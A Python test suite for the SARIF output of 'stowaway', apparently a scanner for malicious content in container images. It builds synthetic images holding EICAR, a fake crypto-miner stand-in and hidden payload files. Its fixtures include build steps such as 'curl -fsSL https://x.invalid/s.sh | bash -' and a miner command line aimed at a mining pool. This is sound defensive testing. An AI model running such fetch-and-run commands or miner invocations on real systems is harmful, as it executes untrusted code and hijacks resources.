#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""SARIF output tests: build images (tests/fixtures/imagelib.py), run
`stowaway scan --format sarif`, assert what GitHub code scanning needs and
what each finding becomes, and validate every document against the official
SARIF 2.1.0 JSON schema with ajv.

usage: test_sarif.py STOWAWAY_BINARY [CASE...]
Prints one line per case and ends with "sarif: N passed, N failed".

The schema and the validator come from the npm registry (the only one the
test machines reach besides Debian's), pinned, into a cache outside the
repository: ${STOWAWAY_TEST_CACHE:-${XDG_CACHE_HOME:-$HOME/.cache}/stowaway-tests}/npm-sarif
(the cache tests/fixtures/debian-rootfs.sh uses).
  - ajv and ajv-formats, installed with `npm install --prefix CACHE`;
  - sarif-schema-2.1.0.json, the OASIS schema (draft-07 edition, $id
    .../oasis-tcs/sarif-spec/master/Schemata/sarif-schema-2.1.0.json), as
    shipped in the npm package @datadog/datadog-ci 2.44.0 at
    package/dist/commands/sarif/json-schema/sarif-schema-2.1.0.json; only
    that file is taken (`npm pack`, no install) and its SHA-256 is checked.
Without node and npm (Debian: nodejs, npm) the validation cases fail: they
are never skipped.
"""
import fcntl
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "fixtures"))
from caserun import eq, ok, run_cases  # noqa: E402
from imagelib import E, EICAR, Layer, config_for, oci_image, sha, write_oci  # noqa: E402

AJV = "8.17.1"
AJV_FORMATS = "3.0.1"
SCHEMA_PKG = "@datadog/datadog-ci@2.44.0"
SCHEMA_MEMBER = "package/dist/commands/sarif/json-schema/sarif-schema-2.1.0.json"
SCHEMA_SHA256 = "10666d46649b52e262001e70d43e6c52f7c0279ca3dbdfe9a7dc2e4071556454"
SCHEMA_ID = "https://raw.githubusercontent.com/oasis-tcs/sarif-spec/master/Schemata/sarif-schema-2.1.0.json"

SEVERITY_SCORE = {"critical": "9.5", "high": "8.0", "medium": "5.5", "low": "3.0", "info": "1.0"}
# GitHub's bands (docs/FORMATS.md §9); info has none of its own and shows as low
BANDS = {"critical": (9.05, 10.0), "high": (7.0, 8.9), "medium": (4.0, 6.9), "low": (0.1, 3.9),
         "info": (0.1, 3.9)}
LEVEL = {"critical": "error", "high": "error", "medium": "warning", "low": "note", "info": "note"}

BIN = None
WORK = None
CACHE = None
CASES = []

MINER = b"\x7fELF fake miner stand-in: stratum+tcp://pool.example.invalid:3333 --donate-level 1\n"


def case(fn):
    CASES.append(fn)
    return fn


def d(name):
    p = os.path.join(WORK, name)
    shutil.rmtree(p, ignore_errors=True)
    os.makedirs(p)
    return p


# ---------------------------------------------------------------- running

class Run:
    def __init__(self, args, rc, out, err):
        self.args, self.rc, self.raw, self.err = args, rc, out, err
        self.out = out.decode("utf-8", "replace")

    @property
    def doc(self):
        try:
            # strict UTF-8: GitHub rejects a file that is not
            return json.loads(self.raw.decode("utf-8"))
        except ValueError as e:
            raise AssertionError("stdout is not UTF-8 JSON: %s\n%s\nstderr: %s" % (
                e, self.out[:500], self.err))

    @property
    def run(self):
        runs = self.doc["runs"]
        eq(len(runs), 1, "runs")
        return runs[0]


def scan(*args, fmt="sarif", timeout=300):
    cmd = [BIN, "scan", "--quiet"] + (["--format", fmt] if fmt else []) + list(args)
    env = dict(os.environ, XDG_CACHE_HOME=os.path.join(WORK, "cache"))
    p = subprocess.run(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       timeout=timeout)
    err = p.stderr.decode("utf-8", "replace")
    # under -Db_sanitize a report may come with an exit code a case expects
    ok("Sanitizer" not in err and "runtime error:" not in err, "sanitizer report:\n" + err[-3000:])
    return Run(cmd, p.returncode, p.stdout, err)


# ---------------------------------------------------------------- the validator

def need(tool):
    path = shutil.which(tool)
    if not path:
        raise AssertionError(
            "%s not found: the SARIF schema check needs Node.js and npm (Debian packages "
            "nodejs and npm; scripts/deps.sh)" % tool)
    return path


def file_sha256(p):
    with open(p, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def npm(*args, cwd=None):
    p = subprocess.run([need("npm")] + list(args) + ["--no-audit", "--no-fund", "--loglevel=error"],
                       cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=300)
    if p.returncode != 0:
        raise AssertionError("npm %s failed (exit %d): %s" % (
            " ".join(args), p.returncode, p.stdout.decode("utf-8", "replace")[-1500:]))


def installed_version(pkg):
    try:
        with open(os.path.join(CACHE, "node_modules", pkg, "package.json")) as f:
            return json.load(f).get("version")
    except (OSError, ValueError):
        return None


def ensure_validator():
    """Install (once, cached) ajv + ajv-formats and the schema. Returns the schema path."""
    need("node")
    need("npm")
    os.makedirs(CACHE, exist_ok=True)
    schema = os.path.join(CACHE, "sarif-schema-2.1.0.json")
    with open(os.path.join(CACHE, ".lock"), "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # two test runs may share the cache
        if installed_version("ajv") != AJV or installed_version("ajv-formats") != AJV_FORMATS:
            npm("install", "--prefix", CACHE, "--save-exact", "ajv@" + AJV,
                "ajv-formats@" + AJV_FORMATS)
        if not os.path.exists(schema) or file_sha256(schema) != SCHEMA_SHA256:
            tmp = tempfile.mkdtemp(prefix="pack-", dir=CACHE)
            try:
                npm("pack", SCHEMA_PKG, "--pack-destination", tmp, "--silent", cwd=tmp)
                tgz = [f for f in os.listdir(tmp) if f.endswith(".tgz")]
                ok(len(tgz) == 1, "npm pack %s gave %s" % (SCHEMA_PKG, tgz))
                with tarfile.open(os.path.join(tmp, tgz[0])) as t:
                    data = t.extractfile(SCHEMA_MEMBER).read()
                eq(hashlib.sha256(data).hexdigest(), SCHEMA_SHA256,
                   "SHA-256 of %s in %s" % (SCHEMA_MEMBER, SCHEMA_PKG))
                with open(schema + ".tmp", "wb") as f:
                    f.write(data)
                os.replace(schema + ".tmp", schema)
            finally:
                shutil.rmtree(tmp, ignore_errors=True)
    with open(schema) as f:
        s = json.load(f)
    eq(s.get("$schema"), "http://json-schema.org/draft-07/schema#", "schema dialect")
    eq(s.get("$id"), SCHEMA_ID, "schema $id")
    return schema


def schema_valid(*runs):
    """Validate documents (Run objects) against the official schema."""
    schema = ensure_validator()
    paths = []
    for i, r in enumerate(runs):
        r.doc  # parses, or says why not
        p = os.path.join(WORK, "doc-%d.sarif" % i)
        with open(p, "wb") as f:
            f.write(r.raw)
        paths.append(p)
    p = subprocess.run([need("node"), os.path.join(HERE, "validate.js"), CACHE, schema] + paths,
                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=120)
    if p.returncode != 0:
        raise AssertionError("schema validation failed:\n" + p.stdout.decode("utf-8", "replace"))


# ---------------------------------------------------------------- GitHub's rules

def text_ok(obj, key, where, limit=1024):
    t = obj.get(key, {}).get("text")
    ok(isinstance(t, str) and t.strip(), "%s.%s.text missing or empty" % (where, key))
    ok(len(t) <= limit, "%s.%s.text is %d chars (limit %d)" % (where, key, len(t), limit))
    return t


def github_ok(doc):
    """What GitHub code scanning needs beyond the schema (FORMATS.md §9)."""
    eq(doc.get("$schema"), "https://json.schemastore.org/sarif-2.1.0.json", "$schema")
    eq(doc.get("version"), "2.1.0", "version")
    ok(1 <= len(doc["runs"]) <= 20, "runs per file")
    for run in doc["runs"]:
        drv = run["tool"]["driver"]
        eq(drv["name"], "stowaway", "driver name")
        ok(drv.get("semanticVersion"), "semanticVersion")
        rules = drv["rules"]
        ids = [r["id"] for r in rules]
        eq(len(ids), len(set(ids)), "rule ids are unique")
        ok(len(rules) <= 25000, "rules per run")
        for r in rules:
            w = "rule " + r["id"]
            ok(r["id"], "rule id empty")
            ok(r.get("name") and len(r["name"]) <= 255, w + ": name")
            for k in ("shortDescription", "fullDescription", "help"):
                text_ok(r, k, w)
            p = r["properties"]
            ok(1 <= len(p["tags"]) <= 20 and p["tags"][0] == "security", w + ": tags %r" % p["tags"])
            ok(p["precision"] in ("very-high", "high", "medium", "low"), w + ": precision")
            score = float(p["security-severity"])
            ok(0.1 <= score <= 10.0, w + ": security-severity")
        ok(run["automationDetails"]["id"].startswith("stowaway/") and
           run["automationDetails"]["id"].endswith("/"), "automationDetails.id")
        inv = run["invocations"]
        eq(len(inv), 1, "invocations")
        eq(inv[0]["executionSuccessful"], True, "executionSuccessful")
        ok(isinstance(run["results"], list), "results array")
        ok(len(run["results"]) <= 25000, "results per run")
        for res in run["results"]:
            w = "result %s" % res.get("ruleId")
            eq(rules[res["ruleIndex"]]["id"], res["ruleId"], w + ": ruleIndex")
            ok(res["level"] in ("error", "warning", "note"), w + ": level")
            ok(res["message"]["text"].strip(), w + ": message")
            loc = res["locations"][0]["physicalLocation"]
            ok(loc["artifactLocation"]["uri"], w + ": uri")
            eq(loc["region"], {"startLine": 1}, w + ": region")
            ok(res["partialFingerprints"]["primaryLocationLineHash"], w + ": fingerprint")


# ---------------------------------------------------------------- images

def base_layer():
    return Layer([E("bin", kind="dir"), E("bin/sh", b"#!fake shell\n", mode=0o755),
                  E("etc", kind="dir"), E("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n")],
                 created_by="ADD rootfs.tar /")


def payload_layers():
    """EICAR in a layer; EICAR deleted by a later whiteout; a miner stand-in
    (critical through --ioc); a 3 MiB file for --max-file-size 1M."""
    return [
        Layer([E("opt", kind="dir"), E("opt/eicar.com", EICAR)], created_by="COPY eicar.com /opt/"),
        Layer([E("usr", kind="dir"), E("usr/bin", kind="dir"), E("usr/bin/.kworker", MINER, mode=0o755),
               E("usr/share", kind="dir"), E("usr/share/.x", kind="dir"),
               E("usr/share/.x/payload", EICAR), E("big", bytes(3 << 20))],
              created_by="RUN curl -o /usr/share/.x/payload https://x.invalid/p"),
        Layer([E("usr/share/.x/.wh.payload")], created_by="RUN rm /usr/share/.x/payload"),
    ]


def ioc_list():
    lst = os.path.join(WORK, "iocs.txt")
    with open(lst, "w") as f:
        f.write("%s critical miner XMRig stand-in (test)\n" % sha(MINER)[7:])
    return lst


REF = "docker.io/acme/app:1.0"


def main_image(name="main", extra_bottom=False):
    root = d(name)
    layers = ([Layer([E("srv", kind="dir"), E("srv/readme", b"clean\n")], created_by="COPY readme /srv/")]
              if extra_bottom else []) + [base_layer()] + payload_layers()
    oci_image(root, layers, name=REF)
    return root, layers


def scan_main(root, *extra):
    return scan("--ioc", ioc_list(), "--max-file-size", "1M", *(list(extra) + [root]))


def results(run, rule_id=None, uri=None):
    return [r for r in run["results"] if (rule_id is None or r["ruleId"] == rule_id) and
            (uri is None or r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == uri)]


def one(run, rule_id, uri):
    rs = results(run, rule_id, uri)
    ok(len(rs) == 1, "want one %s at %s, have %s" % (rule_id, uri, sorted(
        (r["ruleId"], r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"])
        for r in run["results"])))
    return rs[0]


def rule(run, rule_id):
    rs = [r for r in run["tool"]["driver"]["rules"] if r["id"] == rule_id]
    eq(len(rs), 1, "rules with id " + rule_id)
    return rs[0]


def fp(res):
    return res["partialFingerprints"]["primaryLocationLineHash"]


# ---------------------------------------------------------------- cases

@case
def findings_become_rules_and_results():
    root, layers = main_image()
    r = scan_main(root)
    eq(r.rc, 1, "exit code with a critical finding (stderr: %s)" % r.err.strip())
    doc = r.doc
    github_ok(doc)
    run = r.run
    js = scan_main(root, "--format", "json")
    report = json.loads(js.out)
    # one result per finding, one rule per distinct finding id, in the same order
    eq(len(run["results"]), len(report["findings"]), "results vs findings")
    eq([x["ruleId"] for x in run["results"]], [f["id"] for f in report["findings"]], "result order")
    ids = [x["id"] for x in run["tool"]["driver"]["rules"]]
    eq(sorted(ids), sorted(set(f["id"] for f in report["findings"])), "rule ids")
    for want in ("SW-IOC-SHA256", "SW-TEST-EICAR", "SW-HIDDEN-PAYLOAD", "SW-INCOMPLETE"):
        ok(ids.count(want) == 1, "%s once in rules %s" % (want, ids))
    eq(ids[0], "SW-IOC-SHA256", "the rule of the most severe finding comes first")

    ioc = rule(run, "SW-IOC-SHA256")
    eq(ioc["defaultConfiguration"]["level"], "error", "IOC rule level (worst finding critical)")
    eq(ioc["properties"]["security-severity"], "9.5", "IOC rule security-severity")
    eq(ioc["properties"]["tags"][:2], ["security", "miner"], "IOC rule tags")
    ok("test" in ioc["properties"]["tags"], "both categories tagged: %r" % ioc["properties"]["tags"])
    eq(ioc["properties"]["precision"], "very-high", "hash precision")
    eicar = rule(run, "SW-TEST-EICAR")
    eq((eicar["defaultConfiguration"]["level"], eicar["properties"]["security-severity"]),
       ("warning", "5.5"), "EICAR rule level / security-severity")
    eq(eicar["shortDescription"]["text"], "EICAR anti-malware test file", "YARA title as description")
    eq(eicar["name"], "SwTestEicar", "rule name")
    eq(eicar["properties"]["tags"], ["security", "test"], "EICAR tags")
    inc = rule(run, "SW-INCOMPLETE")
    eq(inc["properties"]["tags"], ["security", "incomplete"], "incomplete tags")
    ok("max-file-size" in inc["help"]["text"], "incomplete help names the limit")
    for x in run["tool"]["driver"]["rules"]:
        eq(x["properties"]["tags"][1], next(f["category"] for f in report["findings"] if f["id"] == x["id"]),
           "first category tag of " + x["id"])

    digests = [l["digest"] for l in report["image"]["layers"]]
    # the critical IOC hit on the miner stand-in
    m = one(run, "SW-IOC-SHA256", "image/2/usr/bin/.kworker")
    eq(m["level"], "error", "critical -> error")
    eq(m["properties"]["severity"], "critical", "severity property")
    eq(m["ruleIndex"], ids.index("SW-IOC-SHA256"), "ruleIndex")
    # EICAR still in the final filesystem
    e = one(run, "SW-IOC-SHA256", "image/1/opt/eicar.com")
    eq(e["level"], "warning", "medium -> warning")
    t = e["message"]["text"]
    for s in ("/opt/eicar.com", "layer 1", digests[1], "COPY eicar.com /opt/", "still in the final filesystem"):
        ok(s in t, "message %r should mention %r" % (t, s))
    eq(e["properties"]["in_final_fs"], True, "in_final_fs")
    eq(e["properties"]["evidence"]["sha256"], sha(EICAR)[7:], "raw evidence")
    eq(e["properties"]["layer_digest"], digests[1], "layer digest property")
    logical = e["locations"][0]["logicalLocations"]
    eq(logical[0], {"kind": "module", "name": REF, "fullyQualifiedName": REF}, "image logical location")
    eq(logical[1]["name"], digests[1], "layer logical location")
    # EICAR deleted by a later layer: hidden, still shipped
    for rid in ("SW-IOC-SHA256", "SW-TEST-EICAR", "SW-HIDDEN-PAYLOAD"):
        h = one(run, rid, "image/2/usr/share/.x/payload")
        eq(h["properties"]["in_final_fs"], False, rid + " in_final_fs")
        t = h["message"]["text"]
        for s in ("/usr/share/.x/payload", "layer 2", digests[2], "RUN curl -o /usr/share/.x/payload",
                  "not in the final filesystem", "still ships"):
            ok(s in t, "message %r should mention %r" % (t, s))
    hp = one(run, "SW-HIDDEN-PAYLOAD", "image/2/usr/share/.x/payload")
    eq(hp["properties"]["evidence"]["removed_in_layer"], 3, "hidden payload evidence")
    # the file too big to scan: a result and a notification
    one(run, "SW-INCOMPLETE", "image/2/big")
    notes = run["invocations"][0]["toolExecutionNotifications"]
    big = [n for n in notes if "/big" in n["message"]["text"]]
    ok(len(big) == 1, "one notification for /big: %s" % notes)
    eq(big[0]["level"], "warning", "notification level")
    for s in ("max-file-size", "layer 2", digests[2]):
        ok(s in big[0]["message"]["text"], "notification %r should mention %r" % (big[0]["message"]["text"], s))
    eq(big[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "image/2/big", "notification uri")
    eq(len(notes), len(report["incomplete"]), "one notification per incomplete item")
    eq(run["automationDetails"]["id"], "stowaway/%s/" % REF, "automationDetails.id")
    eq(run["properties"]["verdict"], "malicious", "verdict property")
    # every result's level and every rule's band follow the severities
    for res in run["results"]:
        sev = res["properties"]["severity"]
        eq(res["level"], LEVEL[sev], "level of a %s finding" % sev)
    for x in run["tool"]["driver"]["rules"]:
        worst = max((res["properties"]["severity"] for res in results(run, x["id"])),
                    key=list(SEVERITY_SCORE)[::-1].index)
        eq(x["properties"]["security-severity"], SEVERITY_SCORE[worst], x["id"] + " security-severity")
        lo, hi = BANDS[worst]
        ok(lo <= float(SEVERITY_SCORE[worst]) <= hi, "band of " + worst)
        eq(x["defaultConfiguration"]["level"], LEVEL[worst], x["id"] + " default level")
    schema_valid(r)


@case
def fingerprints_are_stable_and_distinct():
    root, _ = main_image()
    a, b = scan_main(root).run, scan_main(root).run
    fa = [fp(x) for x in a["results"]]
    eq(len(fa), len(set(fa)), "fingerprints distinct across results")
    eq(fa, [fp(x) for x in b["results"]], "fingerprints stable across runs")
    for x in a["results"]:
        p = x["properties"]
        want = hashlib.sha256(("%s\0%s\0%s" % (x["ruleId"], p["path"] or "", p["layer_digest"] or ""))
                              .encode()).hexdigest()[:32]
        eq(fp(x), want, "fingerprint of %s %s = sha256(id, path, layer digest)" % (x["ruleId"], p["path"]))
    # an extra layer at the bottom shifts every index and uri, not the fingerprints
    root2, _ = main_image("shifted", extra_bottom=True)
    c = scan_main(root2).run
    key = lambda x: (x["ruleId"], x["properties"]["path"], x["properties"]["layer_digest"])  # noqa: E731
    eq({key(x): fp(x) for x in c["results"]}, {key(x): fp(x) for x in a["results"]},
       "fingerprints independent of layer index and result order")
    ok(results(c, "SW-IOC-SHA256", "image/2/opt/eicar.com"), "uri follows the layer index")


@case
def image_level_findings_point_at_config():
    import base64
    root = d("cfg")
    layers = [base_layer(), Layer([E("x", b"x")], created_by="RUN curl -fsSL https://x.invalid/s.sh | bash -")]
    pool = base64.b64encode(b"stratum+tcp://pool.example.invalid:13333").decode()
    oci_image(root, layers, name="docker.io/acme/cfg:1", cfg_extra={"config": {
        "Entrypoint": ["/usr/bin/jupdate"],
        "Cmd": ["-o", "stratum+tcp://pool.supportxmr.com:3333", "--donate-level", "1"],
        "Env": ["PATH=/usr/bin:/bin", "POOL_B64=" + pool]}})
    r, again = scan(root), scan(root)
    github_ok(r.doc)
    run = r.run
    img = [x for x in run["results"] if x["properties"]["path"] is None]
    ok(img, "image-level results: %s" % [x["ruleId"] for x in run["results"]])
    for x in img:
        uri = x["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        layer = x["properties"]["layer"]
        if layer is None:
            eq(uri, "image/config", x["ruleId"] + " uri")
            ok("image configuration of docker.io/acme/cfg:1" in x["message"]["text"], x["message"]["text"])
            eq(len(x["locations"][0]["logicalLocations"]), 1, "image only")
        else:
            eq(uri, "image/%d" % layer, x["ruleId"] + " uri")
            ok(x["properties"]["layer_digest"] in x["message"]["text"], x["message"]["text"])
    keys = [(x["ruleId"], x["properties"]["layer_digest"]) for x in img]
    ok(len(keys) > len(set(keys)), "two findings of one rule in the config: %s" % keys)
    fps = [fp(x) for x in run["results"]]
    eq(len(fps), len(set(fps)), "same rule, path and layer: still distinct fingerprints")
    eq(fps, [fp(x) for x in again.run["results"]], "and stable")
    schema_valid(r)


@case
def clean_image_is_an_empty_run():
    root = d("clean")
    oci_image(root, [base_layer()], name="docker.io/acme/clean:2")
    r = scan(root)
    eq(r.rc, 0, "exit code (stderr: %s)" % r.err.strip())
    github_ok(r.doc)
    run = r.run
    eq(run["results"], [], "no results")
    eq(run["tool"]["driver"]["rules"], [], "no rules")
    eq(run["invocations"], [{"executionSuccessful": True, "toolExecutionNotifications": []}], "invocations")
    eq(run["automationDetails"]["id"], "stowaway/docker.io/acme/clean:2/", "automationDetails.id")
    eq(run["properties"]["verdict"], "clean", "verdict")
    schema_valid(r)


@case
def every_platform_of_an_index():
    """The same file flagged in two platforms of an index: two results, each
    located under its platform and saying it, fingerprints apart."""
    root = d("platforms")
    images = []
    for arch in ("amd64", "arm64"):
        layers = [Layer([E("opt/eicar.com", EICAR), E("etc/arch", arch.encode())])]
        images.append((layers, config_for(layers, arch=arch), {"platform": {"architecture": arch, "os": "linux"}}))
    write_oci(root, images)
    r = scan(root)
    eq(r.rc, 0, "exit code (stderr: %s)" % r.err.strip())
    github_ok(r.doc)
    got = sorted((x["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], x["properties"]["platform"])
                 for x in results(r.run, "SW-IOC-SHA256"))
    eq(got, [("image/linux/amd64/0/opt/eicar.com", "linux/amd64"), ("image/linux/arm64/0/opt/eicar.com", "linux/arm64")],
       "a result per platform")
    eq(len({fp(x) for x in results(r.run, "SW-IOC-SHA256")}), 2, "distinct fingerprints")
    ok(all("of the platform linux/" in x["message"]["text"] for x in results(r.run, "SW-IOC-SHA256")), "message")
    schema_valid(r)


@case
def hostile_names_stay_valid_uris_and_text():
    root = d("hostile")
    name = "odd/a b%#?[x]\udcff\n\t\x01\u00e9.txt"  # \udcff: the raw byte 0xff (surrogateescape)
    oci_image(root, [Layer([E("odd", kind="dir"), E(name, EICAR), E("odd/.../e", EICAR)],
                           created_by="RUN printf 'a\\nb' \"\x1b[31m\"", fmt=tarfile.GNU_FORMAT)])
    r = scan(root)
    eq(r.rc, 0, "exit code (stderr: %s)" % r.err.strip())
    github_ok(r.doc)
    run = r.run
    uris = sorted(set(x["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for x in run["results"]))
    eq(uris, ["image/0/odd/.../e", "image/0/odd/a%20b%25%23%3F%5Bx%5D%FF%0A%09%01%C3%A9.txt"],
       "percent-encoded uris")
    for x in run["results"]:
        t = x["message"]["text"]
        ok(not any(ord(ch) < 0x20 for ch in t), "no control characters in message %r" % t)
    x = one(run, "SW-IOC-SHA256", "image/0/odd/a%20b%25%23%3F%5Bx%5D%FF%0A%09%01%C3%A9.txt")
    # a message is text for people: the terminal escaper's form (stowaway/term.h)
    ok("/odd/a b%#?[x]\\xff\\n\\t\\x01\u00e9.txt" in x["message"]["text"],
       "message shows the path escaped: %r" % x["message"]["text"])
    ok('"RUN printf \'a\\\\nb\' \"\\x1b[31m\""' in x["message"]["text"],
       "message shows the build step escaped: %r" % x["message"]["text"])
    eq(x["properties"]["path"], "/odd/a b%#?[x]\ufffd\n\t\x01\u00e9.txt", "raw path property (invalid byte as U+FFFD)")
    eq(x["properties"]["created_by"], "RUN printf 'a\\nb' \"\x1b[31m\"", "raw created_by property")
    schema_valid(r)


@case
def several_images_one_document():
    a = d("multi-a")
    oci_image(a, [base_layer(), Layer([E("e", EICAR)])], name="docker.io/acme/a:1")
    b = d("multi-b")
    oci_image(b, [base_layer()], name="docker.io/acme/b:1")
    out = os.path.join(WORK, "multi.sarif")
    r = scan("--output", out, a, b)
    eq(r.rc, 0, "exit code (stderr: %s)" % r.err.strip())
    eq(r.out, "", "stdout empty with --output")
    with open(out, "rb") as f:
        r.raw = f.read()
    doc = r.doc
    github_ok(doc)
    eq([x["automationDetails"]["id"] for x in doc["runs"]],
       ["stowaway/docker.io/acme/a:1/", "stowaway/docker.io/acme/b:1/"], "a run per image")
    eq(len(doc["runs"][0]["results"]), 2, "image a: EICAR by hash and by rule")
    eq(doc["runs"][1]["results"], [], "image b: clean")
    schema_valid(r)
    # GitHub takes at most 20 runs per file: refused before scanning
    bad = scan(*([b] * 21))
    eq(bad.rc, 2, "21 images")
    ok(bad.err.startswith("stowaway: --format sarif: at most 20 images"), "error: %r" % bad.err)
    eq(bad.out, "", "nothing written")
    # a failed image is reported; the others are still written
    part = scan(a, os.path.join(WORK, "no-such-image"))
    eq(part.rc, 2, "one image failed")
    eq(len(part.doc["runs"]), 1, "the good image's run is written")
    ok("no-such-image" in part.err, "error names the image: %r" % part.err)


@case
def over_25000_results_keeps_the_most_severe():
    root = d("many")
    # 3 layers x 4,500 EICAR files, two findings each (hash and rule): 27,000
    # medium findings (under the 10,000 per layer), plus one critical
    layers = [Layer([E("l%d" % i, kind="dir")] + [E("l%d/%05d" % (i, k), EICAR) for k in range(4500)],
                    created_by="COPY l%d /l%d" % (i, i)) for i in range(3)]
    layers.append(Layer([E("zz", kind="dir"), E("zz/.kworker", MINER)], created_by="COPY kworker /zz/"))
    oci_image(root, layers, name="docker.io/acme/many:1")
    r = scan("--ioc", ioc_list(), root, timeout=600)
    eq(r.rc, 1, "exit code (stderr: %s)" % r.err.strip())
    run = r.run
    findings = json.loads(scan("--ioc", ioc_list(), root, fmt="json", timeout=600).out)["findings"]
    ok(len(findings) > 27000, "findings: %d" % len(findings))
    eq(len(run["results"]), 25000, "results capped at GitHub's limit")
    eq(run["properties"]["findings"], len(findings), "findings counted")
    eq(run["results"][0]["properties"]["severity"], "critical", "the critical finding is kept first")
    eq(run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "image/3/zz/.kworker", "uri")
    order = list(SEVERITY_SCORE)
    eq(sorted((x["properties"]["severity"] for x in run["results"]), key=order.index),
       sorted((f["severity"] for f in findings), key=order.index)[:25000], "the most severe are kept")
    notes = [n["message"]["text"] for n in run["invocations"][0]["toolExecutionNotifications"]]
    ok(any("%d findings are not in this file" % (len(findings) - 25000) in n and "25000" in n for n in notes),
       "notification: %s" % notes)
    fps = [fp(x) for x in run["results"]]
    eq(len(fps), len(set(fps)), "fingerprints distinct")
    github_ok(r.doc)
    schema_valid(r)


@case
def help_lists_sarif_and_bad_format_is_refused():
    p = subprocess.run([BIN, "scan", "--help"], stdout=subprocess.PIPE)
    ok(b"sarif" in p.stdout, "help mentions sarif")
    bad = scan("x", fmt="sarif2")
    eq(bad.rc, 2, "unknown format")
    ok('--format: invalid value "sarif2"' in bad.err, bad.err)


def main():
    global BIN, WORK, CACHE
    BIN = os.path.abspath(sys.argv[1])
    want = set(sys.argv[2:])
    # the same cache as tests/fixtures/debian-rootfs.sh
    base = os.environ.get("STOWAWAY_TEST_CACHE") or os.path.join(
        os.environ.get("XDG_CACHE_HOME") or os.path.join(os.path.expanduser("~"), ".cache"),
        "stowaway-tests")
    CACHE = os.path.join(base, "npm-sarif")
    WORK = tempfile.mkdtemp(prefix="stowaway-sarif-")
    try:
        return run_cases("sarif", CASES, want, detail=3000)
    finally:
        shutil.rmtree(WORK, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
